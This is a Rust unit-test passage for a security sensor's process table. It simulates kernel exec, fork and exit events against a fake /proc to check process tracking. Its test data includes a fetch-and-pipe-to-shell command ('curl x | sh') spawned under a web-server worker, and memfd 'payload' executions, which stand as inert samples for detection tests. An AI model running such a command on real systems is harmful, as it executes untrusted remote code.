//! The process table's unit tests: hand-made kernel events against a fake
//! `/proc` tree.

use super::identity::{fnv1a, FNV_OFFSET_A};
use super::*;
use sensor_common::{TaskInfo, TtyInfo, TTY_FD0_CHR, TTY_FD2_CHR, TTY_HAS_CTTY};
use std::path::Path;

const NS_PER_TICK: u64 = 10_000_000;

/// Boot-time ns inside tick `t` (not on its boundary, so truncation is
/// exercised).
fn ns(t: u64) -> u64 {
    t * NS_PER_TICK + 4_321_987
}

fn task(pid: u32, start_ticks: u64) -> TaskInfo {
    TaskInfo {
        tgid: pid,
        pid,
        start_boottime_ns: ns(start_ticks),
        ..TaskInfo::default()
    }
}

/// An exec of `filename`, which the kernel's walk found to be the file of
/// that path when it is absolute (no link, no script); no walk otherwise.
fn exec(pid: u32, start: u64, ppid: u32, pstart: u64, filename: &str, args: &[&str]) -> ExecEvent {
    let plain = filename.starts_with('/') && !filename.starts_with("/dev/fd/");
    let plain = plain && !filename.starts_with("/proc/");
    ExecEvent {
        exe: plain.then(|| filename.as_bytes().to_vec()),
        ktime_ns: ns(start) + 1000,
        task: task(pid, start),
        parent: Some(task(ppid, pstart)),
        old_pid: pid,
        uid: 1000,
        gid: 1000,
        euid: 1000,
        egid: 1000,
        cgroup_id: 77,
        pid_ns: 0,
        mnt_ns: 0,
        filename: filename.as_bytes().to_vec(),
        filename_truncated: false,
        args: args.iter().map(|a| a.as_bytes().to_vec()).collect(),
        argc: args.len() as u32,
        args_truncated: false,
        args_read_failed: false,
        cwd: None,
        ..ExecEvent::default()
    }
}

fn fork(child: u32, cstart: u64, parent: u32, pstart: u64) -> ForkEvent {
    ForkEvent {
        ktime_ns: ns(cstart),
        child: task(child, cstart),
        parent_tgid: parent,
        parent_start_boottime_ns: ns(pstart),
        cgroup_id: 77,
        cgroup_v1_id: 0,
    }
}

fn exit(pid: u32, start: u64) -> ExitEvent {
    ExitEvent {
        ktime_ns: ns(start) + 5,
        tgid: pid,
        exit_code: 0,
        start_boottime_ns: ns(start),
        comm: [0; sensor_common::COMM_LEN],
    }
}

fn snap(pid: u32, ppid: u32, start: u64, name: &str, args: &[&str]) -> ProcSnapshot {
    ProcSnapshot {
        pid,
        pidfs_ino: None,
        ppid,
        start_ticks: start,
        comm: name.chars().take(15).collect(),
        name: name.to_owned(),
        interactive: Some(false),
        escaped: Default::default(),
        executable: Some(format!("/usr/sbin/{name}")),
        executable_deleted: false,
        args: args.iter().map(|a| (*a).to_owned()).collect(),
        cwd: Some("/".to_owned()),
        uid: 0,
        gid: 0,
        euid: 0,
        tty_nr: 0,
        cgroup_path: Some("/system.slice/x.service".to_owned()),
        is_kernel_thread: false,
        pgid: 0,
        sid: 0,
        pid_ns: None,
    }
}

/// A fake `/proc` with just the files `procfs::read_process` and the
/// table read (the shared fixture, in this module's shape).
struct FakeProc(crate::context::fake_proc::FakeProc);

impl FakeProc {
    fn new() -> Self {
        Self(crate::context::fake_proc::FakeProc::new())
    }
    fn path(&self) -> PathBuf {
        self.0.path()
    }
    #[allow(clippy::too_many_arguments)]
    fn add(
        &self,
        pid: u32,
        ppid: u32,
        start: u64,
        comm: &str,
        args: &[&str],
        exe: Option<&str>,
        cwd: Option<&str>,
    ) {
        self.0.add(&crate::context::fake_proc::FakeProcess {
            pid,
            ppid,
            start,
            comm: comm.as_bytes(),
            cmdline: crate::context::fake_proc::cmdline(args),
            exe: exe.map(str::as_bytes),
            cwd: cwd.map(str::as_bytes),
            flags: 4_194_304,
            tty_nr: 0,
            status: "Name:\tx\nUid:\t33\t33\t33\t33\nGid:\t33\t33\t33\t33\n",
            cgroup: None,
        });
    }
    fn remove(&self, pid: u32) {
        self.0.remove(pid);
    }
}

fn table(proc_root: PathBuf, capacity: usize) -> ProcessTable {
    ProcessTable::new(TableConfig {
        host_id: "host-a".to_owned(),
        capacity,
        proc_root,
        clk_tck: 100,
    })
}

fn args_of(info: &ProcessInfo) -> Vec<&str> {
    info.args.iter().map(String::as_str).collect()
}

#[test]
fn ticks_conversion_truncates_like_the_kernel() {
    assert_eq!(boottime_ns_to_ticks(0, 100), 0);
    assert_eq!(boottime_ns_to_ticks(9_999_999, 100), 0);
    assert_eq!(boottime_ns_to_ticks(10_000_000, 100), 1);
    assert_eq!(boottime_ns_to_ticks(1_234_567_890_123, 100), 123_456);
    assert_eq!(boottime_ns_to_ticks(1_234_567_890_123, 250), 308_641);
    assert_eq!(boottime_ns_to_ticks(1_234_567_890_123, 1000), 1_234_567);
    // 0 = default (100); absurd rates do not divide by zero.
    assert_eq!(boottime_ns_to_ticks(1_234_567_890_123, 0), 123_456);
    assert_eq!(boottime_ns_to_ticks(5, u64::MAX), 5);
    assert!(system_clk_tck() > 0);
}

/// The conversion agrees with this machine's /proc: our own start ticks
/// lie between 0 and "now" converted with the same function.
#[test]
fn ticks_agree_with_real_proc() {
    let me = procfs::read_process(Path::new("/proc"), std::process::id()).unwrap();
    let mut now = libc::timespec {
        tv_sec: 0,
        tv_nsec: 0,
    };
    // SAFETY: valid out-pointer for clock_gettime.
    assert_eq!(
        unsafe { libc::clock_gettime(libc::CLOCK_BOOTTIME, &mut now) },
        0
    );
    let now_ns = now.tv_sec as u64 * 1_000_000_000 + now.tv_nsec as u64;
    let now_ticks = boottime_ns_to_ticks(now_ns, system_clk_tck());
    assert!(
        me.start_ticks <= now_ticks,
        "{} > {now_ticks}",
        me.start_ticks
    );
    assert!(
        me.start_ticks + 100 * 3600 > now_ticks,
        "test process started over an hour ago?"
    );
}

#[test]
fn exec_parent_comes_from_seeded_server() {
    let proc = FakeProc::new();
    let mut t = table(proc.path(), 100);
    let n = t.seed(vec![
        snap(1, 0, 1, "systemd", &["/sbin/init"]),
        snap(
            400,
            1,
            300,
            "gunicorn",
            &[
                "/opt/venv/bin/python3",
                "/opt/venv/bin/gunicorn",
                "app:wsgi",
            ],
        ),
    ]);
    assert_eq!(n, 2);
    assert_eq!(t.stats().seeded, 2);
    let ctx = t.on_exec(&exec(900, 5000, 400, 300, "/bin/sh", &["sh", "-c", "id"]));
    let parent = ctx.parent.expect("seeded parent");
    assert_eq!(&*parent.name, "gunicorn");
    assert_eq!(
        args_of(&parent),
        [
            "/opt/venv/bin/python3",
            "/opt/venv/bin/gunicorn",
            "app:wsgi"
        ]
    );
    assert_eq!(parent.origin, Origin::Procfs);
    assert_eq!(&*ctx.process.name, "sh");
    assert_eq!(ctx.process.executable.as_deref(), Some("/bin/sh"));
    assert_eq!(ctx.process.command_line(), "sh -c id");
    assert_eq!(ctx.process.ppid, 400);
    assert_eq!(ctx.process.origin, Origin::Exec);
    assert_eq!(ctx.process.start_boottime_ns, Some(ns(5000)));
    assert_eq!((ctx.process.uid, ctx.process.gid), (1000, 1000));
    assert_eq!(ctx.process.cgroup_id, Some(77));
    // No /proc fallback was needed.
    assert_eq!(
        t.stats().proc_fallback_hits + t.stats().proc_fallback_misses,
        0
    );
}

#[test]
fn fork_without_exec_inherits_the_masters_image() {
    let proc = FakeProc::new();
    let mut t = table(proc.path(), 100);
    t.seed(vec![snap(1, 0, 1, "systemd", &["/sbin/init"])]);
    // systemd → nginx master (exec) → worker (fork only).
    t.on_fork(&fork(100, 200, 1, 1));
    assert_eq!(t.get(100).map(|p| p.origin), Some(Origin::Fork));
    assert_eq!(t.get(100).map(|p| &*p.name), Some("systemd"));
    let mut master_exec = exec(
        100,
        200,
        1,
        1,
        "/usr/sbin/nginx",
        &["nginx", "-g", "daemon off;"],
    );
    master_exec.uid = 0;
    t.on_exec(&master_exec);
    t.on_fork(&fork(101, 210, 100, 200));
    let worker = t.get(101).cloned().expect("worker");
    assert_eq!(worker.origin, Origin::Fork);
    assert_eq!(&*worker.name, "nginx");
    assert_eq!(args_of(&worker), ["nginx", "-g", "daemon off;"]);
    assert_eq!(worker.executable.as_deref(), Some("/usr/sbin/nginx"));
    assert_eq!(worker.ppid, 100);
    assert_eq!(worker.uid, 0);
    // Own identity, not the master's.
    assert_ne!(worker.entity_id, t.get(100).unwrap().entity_id);
    // The args are shared, not copied.
    assert!(Arc::ptr_eq(&worker.args, &t.get(100).unwrap().args));

    // worker → fork → exec sh -c: its parent is the worker, which looks
    // like the master.
    t.on_fork(&fork(102, 300, 101, 210));
    let ctx = t.on_exec(&exec(
        102,
        300,
        101,
        210,
        "/bin/sh",
        &["sh", "-c", "curl x | sh"],
    ));
    let parent = ctx.parent.expect("worker known");
    assert_eq!(parent.pid, 101);
    assert_eq!(&*parent.name, "nginx");
    assert_eq!(parent.command_line(), "nginx -g daemon off;");
    assert_eq!(parent.entity_id, worker.entity_id);
    assert_eq!(&*ctx.process.name, "sh");
    assert_eq!(args_of(&ctx.process), ["sh", "-c", "curl x | sh"]);

    // When the worker execs, it gets its own image.
    let ctx = t.on_exec(&exec(
        101,
        210,
        100,
        200,
        "/usr/bin/php-fpm8.2",
        &["php-fpm: pool www"],
    ));
    assert_eq!(&*ctx.process.name, "php-fpm8.2");
    assert_eq!(
        ctx.process.entity_id, worker.entity_id,
        "same instance, same id"
    );
    assert_eq!(&*t.get(100).unwrap().name, "nginx", "master untouched");
}

#[test]
fn pid_reuse_never_mixes_instances() {
    let proc = FakeProc::new();
    let mut t = table(proc.path(), 100);
    t.on_exec(&exec(
        500,
        1000,
        1,
        1,
        "/usr/bin/alpha",
        &["alpha", "--secret-a"],
    ));
    let a = t.get(500).cloned().unwrap();

    // A exits, B gets pid 500.
    assert!(t.on_exit(&exit(500, 1000)).is_some());
    let ctx = t.on_exec(&exec(500, 2000, 1, 1, "/usr/bin/beta", &["beta"]));
    assert_eq!(args_of(&ctx.process), ["beta"]);
    assert_ne!(ctx.process.entity_id, a.entity_id);

    // A child whose parent start says t2 sees B, never A.
    let child = t.on_exec(&exec(600, 2100, 500, 2000, "/bin/ls", &["ls"]));
    assert_eq!(
        child.parent.as_ref().map(|p| args_of(p)),
        Some(vec!["beta"])
    );
    // A child whose parent start says t1 (A, long gone) gets nothing,
    // not B; no /proc read is needed to know that.
    let misses = t.stats().proc_fallback_misses;
    let orphan = t.on_exec(&exec(601, 2200, 500, 1000, "/bin/ls", &["ls"]));
    // A is still findable among the recently exited (exact identity).
    assert_eq!(
        orphan.parent.as_ref().map(|p| args_of(p)),
        Some(vec!["alpha", "--secret-a"])
    );

    assert_eq!(t.stats().proc_fallback_misses, misses);

    // Silent replacement: C takes pid 500 without B's exit being seen.
    t.seed(vec![snap(1, 0, 1, "systemd", &["/sbin/init", "splash"])]);
    t.on_fork(&fork(500, 3000, 1, 1));
    let c = t.get(500).cloned().unwrap();
    assert_eq!(c.start_ticks, 3000);
    assert_eq!(&*c.name, "systemd");
    assert_eq!(args_of(&c), ["/sbin/init", "splash"]);
    assert_eq!(t.stats().replaced_stale, 1);
    let child = t.on_exec(&exec(700, 3100, 500, 3000, "/bin/ls", &["ls"]));
    assert_eq!(
        child.parent.as_ref().map(|p| args_of(p)),
        Some(vec!["/sbin/init", "splash"])
    );

    // A stale exit of B (older than C) leaves C alone.
    assert!(t.on_exit(&exit(500, 2000)).is_none());
    assert_eq!(t.get(500).map(|p| p.start_ticks), Some(3000));
}

/// A fork nothing can describe still removes the dead instance that held
/// the pid, so a later lookup cannot find it.
#[test]
fn undescribable_fork_drops_the_stale_instance() {
    let proc = FakeProc::new();
    let mut t = table(proc.path(), 100);
    t.on_exec(&exec(500, 1000, 1, 1, "/usr/bin/alpha", &["alpha"]));
    t.on_fork(&fork(500, 2000, 1, 1)); // init unknown, /proc empty
    assert!(t.get(500).is_none());
    assert_eq!(t.stats().fork_unknown, 1);
    assert_eq!(t.stats().replaced_stale, 1);
    let ctx = t.on_exec(&exec(501, 2100, 500, 2000, "/bin/id", &["id"]));
    assert!(ctx.parent.is_none());
    // Both execs: init (pid 1) and the undescribed 500 are unknown.
    assert_eq!(t.stats().exec_parent_unknown, 2);
}

#[test]
fn exit_removes_and_returns_the_instance() {
    let proc = FakeProc::new();
    let mut t = table(proc.path(), 100);
    t.on_exec(&exec(300, 100, 1, 1, "/usr/bin/make", &["make", "-j8"]));
    assert_eq!(t.len(), 1);
    // Wrong start: another (older) instance; the entry stays.
    assert!(t.on_exit(&exit(300, 50)).is_none());
    assert_eq!(t.len(), 1);
    // Unknown start (0: the kernel could not read it): nothing removed.
    let mut unreadable = exit(300, 100);
    unreadable.start_boottime_ns = 0;
    assert!(t.on_exit(&unreadable).is_none());
    let ended = t.on_exit(&exit(300, 100)).expect("known process");
    assert_eq!(ended.command_line(), "make -j8");
    assert!(t.get(300).is_none());
    assert!(t.is_empty());
    assert!(t.on_exit(&exit(300, 100)).is_none(), "exit is not replayed");
    assert_eq!(t.stats().exit_unknown, 3);

    // A child exec'd while its parent was exiting still finds it (exact
    // identity only), without it coming back into the table.
    let ctx = t.on_exec(&exec(301, 120, 300, 100, "/bin/cc", &["cc"]));
    assert_eq!(
        ctx.parent.map(|p| p.command_line()),
        Some("make -j8".to_owned())
    );
    assert!(t.get(300).is_none());
}

#[test]
fn unknown_parent_falls_back_to_proc_only_when_start_matches() {
    let proc = FakeProc::new();
    proc.add(
        42,
        1,
        777,
        "sshd",
        &["sshd: alice [priv]"],
        Some("/usr/sbin/sshd"),
        Some("/"),
    );
    proc.add(
        43,
        1,
        999,
        "cron",
        &["/usr/sbin/cron", "-f"],
        Some("/usr/sbin/cron"),
        Some("/"),
    );
    let mut t = table(proc.path(), 100);

    let ctx = t.on_exec(&exec(50, 800, 42, 777, "/bin/bash", &["-bash"]));
    let parent = ctx.parent.expect("/proc fallback");
    assert_eq!(&*parent.name, "sshd");
    assert_eq!(args_of(&parent), ["sshd: alice [priv]"]);
    assert_eq!(parent.origin, Origin::Procfs);
    assert_eq!(parent.start_boottime_ns, Some(ns(777)));
    assert_eq!(parent.uid, 33);
    assert_eq!(t.stats().proc_fallback_hits, 1);
    // Inserted: the next child does not read /proc again.
    t.on_exec(&exec(51, 801, 42, 777, "/bin/bash", &["-bash"]));
    assert_eq!(t.stats().proc_fallback_hits, 1);
    assert_eq!(t.get(42).map(|p| p.start_ticks), Some(777));

    // pid 43 in /proc started at 999, the kernel says 998: not ours.
    let ctx = t.on_exec(&exec(52, 1000, 43, 998, "/bin/sh", &["sh"]));
    assert!(ctx.parent.is_none());
    assert!(t.get(43).is_none());
    // Not in /proc at all.
    let ctx = t.on_exec(&exec(53, 1000, 44, 10, "/bin/sh", &["sh"]));
    assert!(ctx.parent.is_none());
    // The kernel could not read the parent.
    let mut no_parent = exec(54, 1000, 42, 777, "/bin/sh", &["sh"]);
    no_parent.parent = None;
    assert!(t.on_exec(&no_parent).parent.is_none());
    let st = t.stats();
    assert_eq!((st.proc_fallback_hits, st.proc_fallback_misses), (1, 2));
    assert_eq!(st.exec_parent_unknown, 3);
}

#[test]
fn fork_of_unknown_parent_reads_proc() {
    let proc = FakeProc::new();
    proc.add(
        60,
        1,
        600,
        "php-fpm8.2",
        &["php-fpm: master process (/etc/php/fpm.conf)"],
        Some("/usr/sbin/php-fpm8.2"),
        Some("/"),
    );
    let mut t = table(proc.path(), 100);
    t.on_fork(&fork(61, 650, 60, 600));
    let worker = t
        .get(61)
        .cloned()
        .expect("described via the parent in /proc");
    assert_eq!(worker.origin, Origin::Fork);
    assert_eq!(&*worker.name, "php-fpm8.2");
    assert_eq!(
        worker.command_line(),
        "php-fpm: master process (/etc/php/fpm.conf)"
    );
    assert_eq!(t.get(60).map(|p| p.origin), Some(Origin::Procfs));
}

#[test]
fn capacity_gc_then_lru_eviction() {
    let proc = FakeProc::new();
    let mut t = table(proc.path(), 4);
    for (pid, start) in [(10, 100), (11, 110), (12, 120), (13, 130)] {
        proc.add(pid, 1, start, "srv", &["srv"], None, None);
    }
    assert_eq!(
        t.seed((10..14).map(|p| snap(p, 1, 100 + u64::from(p - 10) * 10, "srv", &["srv"]))),
        4
    );
    // 11 is gone, 12's pid now belongs to another start time.
    proc.remove(11);
    proc.add(12, 1, 9999, "other", &["other"], None, None);
    t.on_exec(&exec(20, 200, 10, 100, "/bin/a", &["a"]));
    let st = t.stats();
    assert_eq!((st.gc_runs, st.gc_removed, st.evicted), (1, 2, 0));
    assert!(t.get(11).is_none() && t.get(12).is_none());
    assert_eq!(t.len(), 3);
    assert!(t.get(10).is_some() && t.get(13).is_some() && t.get(20).is_some());

    // 10 was last used as 20's parent; using 13 now leaves 10 the least
    // recently used.
    t.on_exec(&exec(21, 210, 13, 130, "/bin/b", &["b"]));
    assert_eq!(t.len(), 4);
    // Full and everything alive in /proc: GC frees nothing, LRU evicts.
    for (pid, start) in [(20, 200), (21, 210)] {
        proc.add(pid, 1, start, "x", &["x"], None, None);
    }
    t.on_fork(&fork(22, 220, 21, 210));
    let st = t.stats();
    assert_eq!(st.evicted, 1);
    assert_eq!(t.len(), 4);
    assert!(t.get(10).is_none(), "least recently used goes first");
    assert!(t.get(13).is_some() && t.get(21).is_some() && t.get(22).is_some());
    // The evicted process is still alive: as a parent it comes back
    // from /proc.
    let ctx = t.on_exec(&exec(23, 230, 10, 100, "/bin/c", &["c"]));
    assert_eq!(ctx.parent.map(|p| p.pid), Some(10));
    assert!(t.len() <= 4);
    assert!(t.stats().evicted >= 2);
}

#[test]
fn gc_never_empties_the_table_without_proc() {
    let mut t = table(PathBuf::from("/nonexistent/proc/root"), 2);
    t.on_exec(&exec(1, 1, 0, 0, "/a", &["a"]));
    t.on_exec(&exec(2, 2, 0, 0, "/b", &["b"]));
    t.on_exec(&exec(3, 3, 0, 0, "/c", &["c"]));
    let st = t.stats();
    assert_eq!((st.gc_runs, st.gc_removed, st.evicted), (1, 0, 1));
    assert!(t.get(1).is_none() && t.get(3).is_some());
}

#[test]
fn seed_stops_at_capacity() {
    let proc = FakeProc::new();
    let mut t = table(proc.path(), 2);
    let n = t.seed((1..=5).map(|p| snap(p, 0, u64::from(p), "x", &["x"])));
    assert_eq!(n, 2);
    assert_eq!(t.stats().seed_skipped, 3);
    assert!(t.get(1).is_some() && t.get(2).is_some() && t.get(3).is_none());
}

#[test]
fn entity_ids_are_stable_and_identify_instances() {
    let proc = FakeProc::new();
    proc.add(
        70,
        1,
        700,
        "redis-server",
        &["redis-server *:6379"],
        Some("/usr/bin/redis-server"),
        Some("/"),
    );
    let mut seeded = table(proc.path(), 100);
    seeded.seed(vec![procfs::read_process(&proc.path(), 70).unwrap()]);
    let via_proc = seeded.get(70).unwrap().entity_id.clone();

    let mut live = table(proc.path(), 100);
    let via_exec = live.on_exec(&exec(
        70,
        700,
        1,
        1,
        "/usr/bin/redis-server",
        &["redis-server"],
    ));
    assert_eq!(via_exec.process.entity_id, via_proc);
    // Via the /proc fallback for a parent, too.
    let mut fallback = table(proc.path(), 100);
    let ctx = fallback.on_exec(&exec(71, 800, 70, 700, "/bin/sh", &["sh"]));
    assert_eq!(
        ctx.parent.map(|p| p.entity_id.clone()),
        Some(via_proc.clone())
    );

    let other_start = live.on_exec(&exec(
        70,
        701,
        1,
        1,
        "/usr/bin/redis-server",
        &["redis-server"],
    ));
    assert_ne!(other_start.process.entity_id, via_proc);
    assert_ne!(
        entity_id("host-b", "", 70, 700),
        entity_id("host-a", "", 70, 700)
    );
    assert_ne!(
        entity_id("host-a", "boot-2", 70, 700),
        entity_id("host-a", "boot-1", 70, 700)
    );
    assert_ne!(entity_id("a", "b", 1, 2), entity_id("ab", "", 1, 2));
    // Pinned: a change here changes every id users have stored.
    assert_eq!(entity_id("host-a", "", 70, 700), PINNED_ID);
    assert_eq!(via_proc.len(), 32);
    assert!(via_proc
        .bytes()
        .all(|b| b.is_ascii_hexdigit() && !b.is_ascii_uppercase()));
}

const PINNED_ID: &str = "4e81bf14d1890543299990b357f19ce4";

#[test]
fn fnv1a_matches_reference_vectors() {
    // Reference values of FNV-1a 64 (Fowler/Noll/Vo test suite).
    assert_eq!(fnv1a(FNV_OFFSET_A, b""), 0xcbf2_9ce4_8422_2325);
    assert_eq!(fnv1a(FNV_OFFSET_A, b"a"), 0xaf63_dc4c_8601_ec8c);
    assert_eq!(fnv1a(FNV_OFFSET_A, b"foobar"), 0x8594_4171_f739_67e8);
}

#[test]
fn executable_resolution() {
    let proc = FakeProc::new();
    let mut t = table(proc.path(), 100);
    // The file the kernel executed names the process, whatever the
    // filename passed: a symlink under another name, /dev/stdin, a
    // script (its interpreter), a relative name.
    for (pid, filename, exe) in [
        (70, "/tmp/w", "/usr/bin/dash"),
        (71, "/dev/stdin", "/usr/bin/dash"),
        (72, "/srv/app/run.cgi", "/usr/bin/dash"),
        (73, "./payload", "/home/alice/tools/payload"),
    ] {
        let mut ev = exec(pid, pid as u64 * 10, 1, 1, filename, &[filename]);
        ev.exe = Some(exe.as_bytes().to_vec());
        let ctx = t.on_exec(&ev);
        assert_eq!(ctx.process.executable.as_deref(), Some(exe), "{filename}");
        assert_eq!(
            Some(&*ctx.process.name),
            exe.rsplit('/').next(),
            "{filename}"
        );
    }

    // No kernel walk, the process gone from /proc: nothing, never the
    // filename's guess.
    t.on_fork(&fork(96, 960, 1, 1));
    let ctx = t.on_exec(&exec(96, 960, 1, 1, "build.sh", &["build.sh"]));
    assert_eq!(ctx.process.executable, None);
    assert_eq!(ctx.process.working_directory, None);
    assert_eq!(&*ctx.process.name, "");
    let mut ev = exec(99, 990, 1, 1, "/tmp/w", &["w"]);
    ev.exe = None;
    let ctx = t.on_exec(&ev);
    assert_eq!(ctx.process.executable, None);
    assert_eq!(&*ctx.process.name, "");

    // /proc shows pid 92 with a different start: its exe is not ours.
    proc.add(
        92,
        1,
        5,
        "imposter",
        &["x"],
        Some("/usr/bin/imposter"),
        Some("/wrong"),
    );
    let ctx = t.on_exec(&exec(92, 920, 1, 1, "relative/tool", &["tool"]));
    assert_eq!(ctx.process.executable, None);
    assert_eq!(ctx.process.working_directory, None);

    // fexecve of a memfd: the file the kernel mapped, whether or not the
    // process is still there to read.
    let mut ev = exec(93, 930, 1, 1, "/dev/fd/3", &["x"]);
    ev.exe = Some(b"/memfd:payload".to_vec());
    let ctx = t.on_exec(&ev);
    assert_eq!(ctx.process.executable.as_deref(), Some("/memfd:payload"));
    assert_eq!(&*ctx.process.name, "memfd:payload");
    // Without the kernel's path, /proc/<pid>/exe of this instance (the
    // same file, " (deleted)" dropped), named the same.
    proc.add(
        97,
        1,
        970,
        "3",
        &["x"],
        Some("/memfd:payload (deleted)"),
        None,
    );
    let ctx = t.on_exec(&exec(97, 970, 1, 1, "/dev/fd/3", &["x"]));
    assert_eq!(ctx.process.executable.as_deref(), Some("/memfd:payload"));
    assert_eq!(&*ctx.process.name, "memfd:payload");
    proc.add(95, 1, 950, "w", &["w"], Some("/usr/bin/dash"), None);
    let mut ev = exec(95, 950, 1, 1, "/tmp/w", &["w"]);
    ev.exe = None;
    let ctx = t.on_exec(&ev);
    assert_eq!(ctx.process.executable.as_deref(), Some("/usr/bin/dash"));
    assert_eq!(&*ctx.process.name, "dash");
}

#[test]
fn a_parent_that_takes_a_terminal_keeps_its_start_value_and_is_reported_once() {
    let proc = FakeProc::new();
    let mut t = table(proc.path(), 100);
    // nginx started without a terminal.
    t.on_exec(&exec(100, 1000, 1, 1, "/usr/sbin/nginx", &["nginx"]));
    let pts = (136 << 20) | 4;
    let on_pty = |mut ev: ExecEvent| {
        if let Some(p) = ev.parent.as_mut() {
            p.tty = TtyInfo {
                ctty_dev: pts,
                fd0_dev: pts,
                fd2_dev: pts,
                flags: TTY_HAS_CTTY | TTY_FD0_CHR | TTY_FD2_CHR,
            };
        }
        ev
    };
    // Its child while it is still detached: nothing to report.
    let ev = exec(101, 1010, 100, 1000, "/bin/sh", &["sh"]);
    let ctx = t.on_exec(&ev);
    assert!(t.parent_became_interactive(&ev, &ctx).is_none());
    // It calls setsid and takes a pty; its next child shows it.
    let ev = on_pty(exec(102, 1020, 100, 1000, "/bin/sh", &["sh"]));
    let ctx = t.on_exec(&ev);
    let changed = t.parent_became_interactive(&ev, &ctx).expect("reported");
    assert_eq!((changed.pid, changed.interactive), (100, Some(false)));
    assert!(changed.became_interactive);
    // Once per instance; the parent's start value stays what children see.
    let ev = on_pty(exec(103, 1030, 100, 1000, "/bin/sh", &["sh"]));
    let ctx = t.on_exec(&ev);
    assert!(t.parent_became_interactive(&ev, &ctx).is_none());
    assert_eq!(ctx.parent.and_then(|p| p.interactive), Some(false));
    // A parent that started on a terminal is no news.
    let shell = on_pty(exec(110, 1100, 1, 1, "/bin/bash", &["bash"]));
    let shell_on_pty = ExecEvent {
        task: shell.parent.map_or(task(110, 1100), |p| TaskInfo {
            tgid: 110,
            pid: 110,
            start_boottime_ns: ns(1100),
            ..p
        }),
        ..shell
    };
    t.on_exec(&shell_on_pty);
    let ev = on_pty(exec(111, 1110, 110, 1100, "/bin/ls", &["ls"]));
    let ctx = t.on_exec(&ev);
    assert_eq!(ctx.parent.as_ref().and_then(|p| p.interactive), Some(true));
    assert!(t.parent_became_interactive(&ev, &ctx).is_none());
}

#[test]
fn args_truncation_non_utf8_and_interactivity() {
    let proc = FakeProc::new();
    let mut t = table(proc.path(), 100);
    let pts = (136 << 20) | 4;
    let mut ev = exec(100, 1000, 1, 1, "/usr/bin/xargs", &["xargs", "a"]);
    ev.args.push(b"caf\xe9".to_vec());
    ev.args.push(vec![0xff, b'-', b'c']);
    ev.argc = 5000;
    ev.task.tty = TtyInfo {
        ctty_dev: pts,
        fd0_dev: pts,
        fd2_dev: pts,
        flags: TTY_HAS_CTTY | TTY_FD0_CHR | TTY_FD2_CHR,
    };
    let p = t.on_exec(&ev).process;
    assert_eq!(p.args_count, 5000);
    assert!(p.args_truncated);
    assert_eq!(args_of(&p), ["xargs", "a", "caf\\xe9", "\\xff-c"]);
    assert_eq!(p.interactive, Some(true));

    let mut ev = exec(101, 1000, 1, 1, "/bin/true", &["true"]);
    ev.task.tty.flags = TTY_READ_ERROR;
    let p = t.on_exec(&ev).process;
    assert!(!p.args_truncated);
    assert_eq!(p.interactive, None);
    let mut ev = exec(102, 1000, 1, 1, "/bin/true", &["true"]);
    ev.task.tty.flags = TTY_FD0_CHR | TTY_FD2_CHR;
    assert_eq!(t.on_exec(&ev).process.interactive, Some(false));
    // A fork child inherits interactivity with its fds and tty.
    t.on_fork(&fork(103, 1100, 100, 1000));
    assert_eq!(t.get(103).and_then(|p| p.interactive), Some(true));
}

#[test]
fn escaped_fields_are_recorded_per_field() {
    let proc = FakeProc::new();
    let mut t = table(proc.path(), 100);
    let mut ev = exec(120, 1200, 1, 1, "/usr/bin/x", &["x"]);
    ev.filename = b"/usr/bin/caf\xe9".to_vec();
    ev.exe = Some(ev.filename.clone());
    ev.args = vec![b"x".to_vec(), b"\xff".to_vec()];
    ev.cwd = Some(b"/srv".to_vec());
    let p = t.on_exec(&ev).process;
    assert!(p.escaped.contains(EscapedFields::ARGS));
    assert!(p.escaped.contains(EscapedFields::NAME));
    assert!(p.escaped.contains(EscapedFields::EXECUTABLE));
    assert!(!p.escaped.contains(EscapedFields::WORKING_DIRECTORY));
    let ev = exec(121, 1210, 1, 1, "/bin/true", &["true", "\\x41"]);
    assert!(
        t.on_exec(&ev).process.escaped.is_empty(),
        "valid UTF-8 is never escaped"
    );
}

/// A task in pid namespace `ns` with session `sid` and group `pgid`.
fn task_in(pid: u32, start: u64, ns: u32, sid: u32, pgid: u32) -> TaskInfo {
    TaskInfo {
        sid,
        pgid,
        pid_ns: ns,
        ..task(pid, start)
    }
}

#[test]
fn entry_leaders_start_at_a_namespace_entered_from_the_host_and_are_inherited() {
    use super::leaders::INIT_PID_NS as HOST;
    const CONTAINER: u32 = 4026532900;
    let proc = FakeProc::new();
    let mut t = table(proc.path(), 100);
    let mut init = snap(1, 0, 1, "systemd", &["/sbin/init"]);
    init.pid_ns = Some(HOST);
    let mut shim = snap(500, 1, 100, "containerd-shim-runc-v2", &["shim"]);
    shim.pid_ns = Some(HOST);
    t.seed(vec![init, shim]);
    assert_eq!(
        t.get(1).unwrap().entry_leader,
        EntryLeader::Own(EntryType::Init)
    );
    assert!(matches!(
        &t.get(500).unwrap().entry_leader,
        EntryLeader::Of(l, EntryType::Init) if l.pid == 1
    ));

    // The container's init: forked by the runtime, exec'd in the container.
    t.on_fork(&ForkEvent {
        child: task_in(600, 200, HOST, 1, 1),
        ..fork(600, 200, 500, 100)
    });
    let mut ev = exec(600, 200, 500, 100, "/usr/sbin/nginx", &["nginx"]);
    ev.task = task_in(600, 200, CONTAINER, 600, 600);
    ev.parent = Some(task_in(500, 100, HOST, 1, 1));
    let init_ctx = t.on_exec(&ev);
    assert_eq!(
        init_ctx.process.entry_leader,
        EntryLeader::Own(EntryType::Container)
    );
    // Its session and group leader is itself.
    assert_eq!(init_ctx.leaders.session.as_ref().map(|l| l.pid), Some(600));

    // A shell started by the server: same namespace as its parent, so it
    // inherits the container init as its entry leader.
    t.on_fork(&ForkEvent {
        child: task_in(601, 300, CONTAINER, 600, 600),
        ..fork(601, 300, 600, 200)
    });
    let mut ev = exec(601, 300, 600, 200, "/bin/sh", &["sh", "-i"]);
    ev.task = task_in(601, 300, CONTAINER, 600, 600);
    ev.parent = Some(task_in(600, 200, CONTAINER, 600, 600));
    let sh = t.on_exec(&ev);
    assert!(matches!(
        &sh.process.entry_leader,
        EntryLeader::Of(l, EntryType::Container) if l.pid == 600
    ));
    assert_eq!(sh.leaders.session.as_ref().map(|l| l.pid), Some(600));
    assert_eq!(sh.leaders.group.as_ref().map(|l| &*l.name), Some("nginx"));

    // That shell unsharing a pid namespace of its own: not a new entry (its
    // parent is not in the host's namespace).
    let mut ev = exec(602, 400, 601, 300, "/bin/sh", &["sh"]);
    ev.task = task_in(602, 400, CONTAINER + 1, 600, 600);
    ev.parent = Some(task_in(601, 300, CONTAINER, 600, 600));
    let nested = t.on_exec(&ev);
    assert!(matches!(
